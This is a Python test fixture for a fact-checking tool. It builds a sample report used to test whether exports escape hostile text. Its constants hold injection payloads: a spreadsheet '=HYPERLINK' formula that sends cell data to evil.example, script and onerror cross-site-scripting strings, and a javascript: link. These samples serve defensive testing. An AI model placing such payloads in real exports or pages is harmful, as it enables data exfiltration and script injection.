"""A small report built from the dataclasses, with the cases exports must get right.

- claim 1: supported, two quotes from two sources (one of them a local file with no URL);
- claim 2: contradicted, a quote from a source whose title has braces, % and &;
- claim 3: unverified, no evidence;
- claim 4: machine unverified, reviewed to contradicted with a note; its quote starts with
  =HYPERLINK(...) (formula injection);
- claim 5: supported by a quote full of Markdown/HTML (links, emphasis, pipes, <img>);
- claim 6: unverified from its two parts (the appositive supported, the main fact not found),
  with an anonymous-source flag; the article is flagged for naming no source;
- an article title with | and <script>, non-ASCII text throughout;
- a source in report.sources that no quote cites.

Loaded by path (tests/checker/report/exports/conftest.py, tests/checker/report/test_report_io.py).
"""

from __future__ import annotations

from dataclasses import replace

from checker.models import (
    Article,
    Claim,
    ClaimResult,
    Evidence,
    Flag,
    FlagKind,
    Report,
    ReportSettings,
    Review,
    SourceRef,
    Span,
    Stance,
    Verdict,
)
from ingest.models import Tier, sha256_text

ARTICLE_TITLE = 'Budget | "Facts" <script>alert(1)</script> – Café crème'
ARTICLE_URL = "https://news.example.org/2024/budget?id=7&lang=fr"
CLAIM_TEXTS = (
    "Le déficit a atteint 4,2 % du PIB en 2023.",
    "Unemployment fell to 3.1% in March 2024.",
    "The mayor's office planted 10,000 trees last year.",
    "The bridge cost 2 billion euros to build.",
    "Exports to Japan | Korea doubled since 2020 <b>[sic]</b>.",
    "Sources say the city's largest employer, the port, hired 900 dockers.",
)
HYPERLINK_QUOTE = '=HYPERLINK("https://evil.example/steal?c="&A1,"Click for details")'
MARKDOWN_QUOTE = (
    "Exports **doubled** [click here](javascript:alert(1)) <img src=x onerror=alert(1)> "
    "| col | see https://evil.example/x and www.evil.example ![p](https://evil.example/p.png)"
)
HOSTILE_SOURCE_TITLE = "@Statistics Office | <b>Quarterly</b> *Review* [2024]"
BRACES_TITLE = "Budget {Report} 100% & more_$#~^\\ of {the Année"
REVIEW_NOTE = "Called the ministry: the figure was 3.4 billion euros.\n=1+1"
UNCITED_TITLE = "Uncited appendix that must not be exported"
GENERATED_AT = "2024-05-02T09:30:00+00:00"
RETRIEVED_AT = "2024-04-30T08:00:00+00:00"


def _article() -> Article:
    text = "Intro paragraph. " + " ".join(CLAIM_TEXTS) + " Summary: " + CLAIM_TEXTS[0]
    return Article(text=text, title=ARTICLE_TITLE, url=ARTICLE_URL, sha256=sha256_text(text))


def _claim(article: Article, i: int) -> Claim:
    text = CLAIM_TEXTS[i]
    start = article.text.index(text)
    locations = [Span(start, start + len(text))]
    again = article.text.find(text, start + 1)
    if again >= 0:
        locations.append(Span(again, again + len(text)))
    query = "In France, " + text if i == 0 else ""
    return Claim(
        id=f"c{i + 1}",
        text=text,
        start=start,
        end=start + len(text),
        locations=tuple(locations),
        checkworthiness=0.5 + i / 10,
        query=query,
    )


SOURCES = (
    SourceRef(
        id="s1statsoffice",
        url="https://stats.example.gov/q1-2024",
        location="https://stats.example.gov/q1-2024",
        title=HOSTILE_SOURCE_TITLE,
        published="2024-03-01",
        retrieved_at=RETRIEVED_AT,
        tier=Tier.PRIMARY,
        author="Jane Müller",
        site="Statistics Office",
    ),
    SourceRef(
        id="s2localnotes",
        url="",
        location="/home/editor/private/ministry-notes.pdf",
        title="Ministry notes — Übersicht",
        published=None,
        retrieved_at=RETRIEVED_AT,
        tier=Tier.SECONDARY,
    ),
    SourceRef(
        id="s3budget",
        url="https://budget.example.eu/report{2023}?q=a b",
        location="https://budget.example.eu/report{2023}?q=a b",
        title=BRACES_TITLE,
        published="2023",
        retrieved_at=RETRIEVED_AT,
        tier=Tier.PRIMARY,
        site="EU Budget & Co",
    ),
    SourceRef(
        id="s4uncited",
        url="https://uncited.example.com/appendix",
        location="https://uncited.example.com/appendix",
        title=UNCITED_TITLE,
        published="2022-01-01",
        retrieved_at=RETRIEVED_AT,
        tier=Tier.PRIMARY,
    ),
)


def _evidence(source: SourceRef, quote: str, stance: Stance, score: float, at: int) -> Evidence:
    return Evidence(
        source_id=source.id,
        url=source.url,
        title=source.title,
        published=source.published,
        tier=source.tier,
        quote=quote,
        start=at,
        end=at + len(quote),
        stance=stance,
        score=score,
        retrieved_at=source.retrieved_at,
        location="p. 3" if not source.url else "",
    )


def _claim_with_parts(article: Article, source: SourceRef) -> ClaimResult:
    claim = _claim(article, 5)
    aside = "the port"
    at = article.text.index(aside, claim.start)
    main = Claim(
        id="c6p1",
        text="Sources say the city's largest employer hired 900 dockers.",
        start=claim.start,
        end=claim.end,
        locations=(Span(claim.start, claim.end),),
        checkworthiness=0.8,
        query="Sources say the city's largest employer hired 900 dockers.",
        kind="main",
    )
    appositive = Claim(
        id="c6p2",
        text="The city's largest employer is the port.",
        start=at,
        end=at + len(aside),
        locations=(Span(at, at + len(aside)),),
        checkworthiness=0.7,
        query="The city's largest employer is the port.",
        kind="appositive",
    )
    quote = "The port employs 9,000 people, more than any other employer in the city."
    parts = (
        ClaimResult(main, Verdict.UNVERIFIED, 1.0, "no relevant evidence in the library"),
        ClaimResult(
            appositive,
            Verdict.SUPPORTED,
            0.8,
            "supported by 1 source",
            (_evidence(source, quote, Stance.SUPPORTS, 0.8, 40),),
        ),
    )
    words = "Sources say"
    return ClaimResult(
        claim=replace(
            claim,
            parts=(main, appositive),
            flags=(Flag(FlagKind.ANONYMOUS, words, claim.start, claim.start + len(words)),),
        ),
        verdict=Verdict.UNVERIFIED,
        confidence=0.8,
        reason="1 of 2 parts supported; not settled: \"Sources say the city's largest employer "
        'hired 900 dockers": no relevant evidence in the library',
        evidence=parts[1].evidence,
        parts=parts,
    )


def make_report() -> Report:
    article = _article()
    s1, s2, s3, _ = SOURCES
    results = (
        ClaimResult(
            claim=_claim(article, 0),
            verdict=Verdict.SUPPORTED,
            confidence=0.91,
            reason="Two sources give a deficit of 4.2% of GDP for 2023.",
            evidence=(
                _evidence(
                    s1, "The deficit reached 4.2% of GDP in 2023.", Stance.SUPPORTS, 0.93, 10
                ),
                _evidence(s2, "Défizit 2023: 4,2 % des BIP.", Stance.SUPPORTS, 0.81, 120),
            ),
        ),
        ClaimResult(
            claim=_claim(article, 1),
            verdict=Verdict.CONTRADICTED,
            confidence=0.84,
            reason="-The office reports 3.6%, not 3.1%.",
            evidence=(
                _evidence(
                    s3, "Unemployment stood at 3.6% in March 2024.", Stance.CONTRADICTS, 0.88, 0
                ),
            ),
        ),
        ClaimResult(
            claim=_claim(article, 2),
            verdict=Verdict.UNVERIFIED,
            confidence=0.0,
            reason="No source in the library mentions tree planting.",
        ),
        ClaimResult(
            claim=_claim(article, 3),
            verdict=Verdict.UNVERIFIED,
            confidence=0.42,
            reason="The only quote found is ambiguous.",
            evidence=(_evidence(s1, HYPERLINK_QUOTE, Stance.CONTRADICTS, 0.4, 500),),
            review=Review(
                verdict=Verdict.CONTRADICTED,
                previous=Verdict.UNVERIFIED,
                note=REVIEW_NOTE,
                reviewed_at="2024-05-03T10:00:00+00:00",
            ),
        ),
        ClaimResult(
            claim=_claim(article, 4),
            verdict=Verdict.SUPPORTED,
            confidence=0.7,
            reason="The office's export table shows the doubling.",
            evidence=(_evidence(s1, MARKDOWN_QUOTE, Stance.SUPPORTS, 0.77, 900),),
        ),
        _claim_with_parts(article, s1),
    )
    return Report(
        article=article,
        generated_at=GENERATED_AT,
        settings=ReportSettings(
            embedder="hashing-384", verifier="nli-small", extractor="rules", store="chroma"
        ),
        results=results,
        sources=SOURCES,
        check_id="chk-20240502-abc123",
        notes=("Library of 4 sources.",),
        flags=(Flag(FlagKind.NO_NAMED_SOURCE, "", 0, 0),),
    )
